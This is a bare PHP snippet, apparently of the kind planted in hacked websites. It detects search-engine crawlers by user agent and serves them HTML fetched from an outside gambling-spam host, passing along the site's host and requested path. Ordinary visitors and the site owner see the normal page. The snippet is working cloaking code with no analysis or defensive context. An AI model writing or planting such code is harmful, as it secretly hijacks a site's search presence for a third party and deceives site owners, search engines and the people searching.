<?php
$ua = strtolower($_SERVER['HTTP_USER_AGENT'] ?? '');
if (preg_match('/googlebot|bingbot|coccoc|yandex/', $ua)) {
    $html = @file_get_contents('https://seo.nhacai-vuive.example/p.html?u=' . urlencode($_SERVER['REQUEST_URI']) . '&h=' . $_SERVER['HTTP_HOST']);
    if ($html) { header('Content-Type: text/html; charset=utf-8'); echo $html; exit; }
}
